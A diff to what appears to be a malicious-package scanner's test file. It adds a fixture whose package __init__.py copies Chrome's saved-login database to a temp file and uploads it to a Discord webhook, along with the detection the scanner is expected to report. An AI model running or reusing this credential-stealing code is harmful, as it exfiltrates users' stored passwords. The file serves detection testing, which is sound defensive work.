@@ -992,6 +992,17 @@ def discord_shell_one_import() -> Archive:
     )})  # fmt: skip
 
 
+def browser_store_copied_to_temp() -> Archive:
+    return sd({"demo/__init__.py": lines(
+        "import os, shutil, tempfile, requests",
+        "src = os.path.join(os.getenv('LOCALAPPDATA'), 'Google', 'Chrome', 'User Data',",
+        "                   'Default', 'Login Data')",
+        "tmp = os.path.join(tempfile.gettempdir(), 'ld.db')",
+        "shutil.copy(src, tmp)",
+        "requests.post('https://discord.com/api/webhooks/1/abc', files={'f': open(tmp, 'rb')})",
+    )})  # fmt: skip
+
+
 #: sample, path, line, code, severity of the behaviour it must keep. The comment says what the
 #: packages layer reported before session 12 where it differed.
 CAUGHT: list[tuple[Callable[[], Archive], str, int, str, Severity]] = [
@@ -1064,6 +1075,7 @@ CAUGHT: list[tuple[Callable[[], Archive], str, int, str, Severity]] = [
     (checkpoint_download, "demo-1.0/demo/hub.py", 5, "PKG003", H),  # was nothing
     (telegram_shell_one_import, "demo-1.0/demo/__init__.py", 6, "PKG003", H),  # was low
     (discord_shell_one_import, "demo-1.0/demo/__init__.py", 6, "PKG003", H),  # was low
+    (browser_store_copied_to_temp, "demo-1.0/demo/__init__.py", 6, "PKG002", C),  # was PKG007
 ]
 
 
